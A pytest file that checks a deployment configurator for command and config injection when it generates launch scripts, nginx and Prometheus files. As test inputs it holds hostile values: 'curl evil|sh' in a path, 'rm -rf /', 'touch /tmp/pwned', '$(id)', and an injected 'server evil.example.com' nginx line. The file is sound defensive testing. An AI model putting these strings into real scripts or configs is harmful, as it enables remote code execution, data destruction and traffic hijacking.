"""Issue 13, finding 1: the launch bundle is built by construction, so no value adds a line,
a command or an upstream.  These call the engine directly (no request boundary), as a stored
plan made before the boundary existed would.

Reference grammars: Linux ``dev_valid_name()`` (torvalds/linux master, net/core/dev.c) for
NIC names; distribution/reference (main, regexp.go) for images; RFC 1123 for host names.
"""

from __future__ import annotations

import re
import shlex
import subprocess
from dataclasses import replace

import pytest
import yaml

from configurator import reference
from configurator.engine import site_values as sv
from configurator.engine.launch import build_launch, bundle_files
from configurator.engine.layout import resolve_layout

HOSTILE_NAME = "Kimi K3\ntouch /tmp/pwned\n#"


def _request(case: str):
    """The seeded case (configurator.reference.CASES) with the launch section the sample proposal gives
    the A3 cases (documents/pdf/sample.py); the hostile values are then put straight into the resolved
    request, past the boundary, as the module docstring says."""
    data = dict(reference.CASES[case])
    data["launch"] = {
        "model_path": "/data/models/Kimi-K3",
        "served_model_name": "kimi-k3",
        "node_ips": [f"10.0.0.{11 + i}" for i in range(data["topology"]["nodes"])],
        "data_nic": "enp189s0f0",
        "image": "quay.io/ascend/vllm-ascend:kimi-k3-a3",
    }
    return reference.request(data)


def _files(req):
    return bundle_files(req)


def _bash_ok(text: str) -> bool:
    return subprocess.run(["bash", "-n"], input=text.encode(), capture_output=True).returncode == 0


def _commands(script: str) -> list[list[str]]:
    """The script's commands as shlex tokens, comments dropped (same structure ⇔ same list shape)."""
    lexer = shlex.shlex(script, posix=True, punctuation_chars=";&|")
    lexer.whitespace = " \t\r"
    lexer.commenters = "#"
    out, cur = [], []
    for tok in lexer:
        if tok == "\n" or tok in (";", "&&", "||", "&", "|"):
            if cur:
                out.append(cur)
            cur = []
        else:
            cur.append(tok)
    if cur:
        out.append(cur)
    return out


def test_hostile_catalog_names_stay_inside_one_comment_line():
    benign = _request("a3-8-primary-standby")
    hostile = replace(
        benign,
        model=replace(benign.model, name=HOSTILE_NAME),
        server=replace(benign.server, name="A3\u2028rm -rf /\r\n"),
    )
    before, after = _files(benign), _files(hostile)
    assert set(before) == set(after)
    for name in before:
        assert len(after[name].splitlines()) == len(before[name].splitlines()), name
        assert "\ntouch /tmp/pwned" not in after[name] and "\u2028" not in after[name], name
    script = after["node-00-cluster-a-master.sh"]
    # the old code wrote the title with an f-string: line 3 was `touch /tmp/pwned`
    assert script.splitlines()[1].startswith("# Kimi K3 touch /tmp/pwned #")
    assert _bash_ok(script)
    assert yaml.safe_load(after["monitoring/prometheus.yml"])["global"]["scrape_interval"] == "15s"


def test_hostile_node_address_never_reaches_nginx_and_is_an_error():
    req = _request("a3-8-primary-standby")
    evil = "10.0.0.1:8000 max_fails=2;\n server evil.example.com"
    ips = (evil, *req.launch.node_ips[1:])
    req = replace(req, launch=replace(req.launch, node_ips=ips))
    result = build_launch(req, resolve_layout(req))
    nginx = bundle_files(result)["gateway/nginx.conf"]
    assert "evil.example.com" not in "".join(bundle_files(result).values())
    assert len(re.findall(r"^\s*server [^{\s]", nginx, re.M)) == 2  # primary + backup, nothing added
    assert "server __NODE0_IP__:8000 max_fails=2" in nginx
    errors = [c for c in result.checks if c.code == "launch.site_value_invalid"]
    assert errors and errors[0].field == "launch.node_ips" and "launch.node_ips[0]" in errors[0].message_en


@pytest.mark.parametrize(
    "field_name,value,placeholder",
    [
        ("model_path", "/data/m; curl evil|sh", "__MODEL_PATH__"),
        ("data_nic", "eth0:1", "__DATA_NIC__"),  # ':' refused by dev_valid_name()
        ("image", "quay.io/x:1 --privileged", "__IMAGE__"),
    ],
)
def test_hostile_site_values_become_placeholders(field_name, value, placeholder):
    req = _request("a3-4-single")
    req = replace(req, launch=replace(req.launch, **{field_name: value}))
    files = _files(req)
    assert value not in "".join(files.values())
    assert placeholder in "".join(files.values())
    benign = _files(_request("a3-4-single"))
    for name in files:
        if name.endswith(".sh"):
            assert _bash_ok(files[name])
            assert [len(c) for c in _commands(files[name])] == [len(c) for c in _commands(benign[name])]


def test_ipv6_targets_are_bracketed_for_nginx_prometheus_and_readme():
    req = _request("a3-8-primary-standby")
    ips = ("fd00::11", *req.launch.node_ips[1:])
    files = _files(replace(req, launch=replace(req.launch, node_ips=ips)))
    assert "server [fd00::11]:8000 max_fails=2 fail_timeout=10s;" in files["gateway/nginx.conf"]
    jobs = {j["job_name"]: j for j in yaml.safe_load(files["monitoring/prometheus.yml"])["scrape_configs"]}
    assert jobs["vllm"]["static_configs"][0]["targets"] == ["[fd00::11]:8000"]


def test_a_served_name_that_looks_like_a_flag_is_not_written():
    # argparse would read "--kimi" as an option: the grammar wants a letter or digit first.
    req = _request("a3-4-single")
    req = replace(req, launch=replace(req.launch, served_model_name="--kimi"))
    result = build_launch(req, resolve_layout(req))
    script = next(v for k, v in bundle_files(result).items() if k.startswith("node-00"))
    assert _bash_ok(script)
    assert "--kimi" not in script and f"--served-model-name {req.model.slug}" in script
    assert any(c.field == "launch.served_model_name" for c in result.checks)


@pytest.mark.parametrize(
    "text,ok",
    [
        ("10.0.0.1", True),
        ("fd00::1", True),
        ("node-1.dc.example", True),
        ("fe80::1%eth0", False),  # zone id would carry free text
        ("010.0.0.1", False),  # leading zero: ipaddress refuses it, and it is no host name
        ("999.1.1.1", False),
        ("a b", False),
        ("10.0.0.1\n", False),
        ("-bad.example", False),
    ],
)
def test_node_address_grammar(text, ok):
    assert (sv.node_address_error(text) is None) is ok


@pytest.mark.parametrize(
    "text,ok",
    [
        ("enp189s0f0", True),
        ("ib0", True),
        ("bond0.100", True),
        ("a" * 15, True),
        ("a" * 16, False),  # IFNAMSIZ 16 includes the NUL
        ("eth0:1", False),
        ("..", False),
        ("eth/0", False),
        ("eth 0", False),
        ("", False),
    ],
)
def test_nic_grammar_follows_dev_valid_name(text, ok):
    assert (sv.nic_error(text) is None) is ok


@pytest.mark.parametrize(
    "text,ok",
    [
        ("quay.io/ascend/vllm-ascend:v0.11.0rc0-a3", True),
        ("vllm/vllm-openai:v0.27.1", True),
        ("localhost:5000/vllm@sha256:" + "a" * 64, True),
        ("Quay.io/Ascend/VLLM", False),  # path components are lower case
        ("vllm/vllm-openai:v1 ; id", False),
        ("vllm/vllm-openai:$(id)", False),
    ],
)
def test_image_reference_grammar(text, ok):
    assert (sv.image_error(text) is None) is ok


def test_a_stored_plan_with_a_hostile_host_still_renders_a_safe_gateway():
    # Quotes store the launch result (host, argv, env) and re-render it later; a plan stored
    # before issue 13 may hold any host text.
    req = _request("a3-8-primary-standby")
    result = build_launch(req, resolve_layout(req))
    evil = "10.0.0.1:8000;\n server evil.example.com"
    nodes = (replace(result.nodes[0], host=evil), *result.nodes[1:])
    stored = replace(result, nodes=nodes)
    files = bundle_files(stored)
    nginx = files["gateway/nginx.conf"]
    assert "evil" not in nginx and "server __NODE0_IP__:8000 max_fails=2" in nginx
    assert len(re.findall(r"^\s*server [^{\s]", nginx, re.M)) == 2
    config = yaml.safe_load(files["monitoring/prometheus.yml"])
    assert (
        sum(len(sc["targets"]) for j in config["scrape_configs"] for sc in j["static_configs"]) == 2 + 8 + 8
    )
    assert _bash_ok(files["node-00-cluster-a-master.sh"])
    assert "\n server evil" not in files["README.md"]
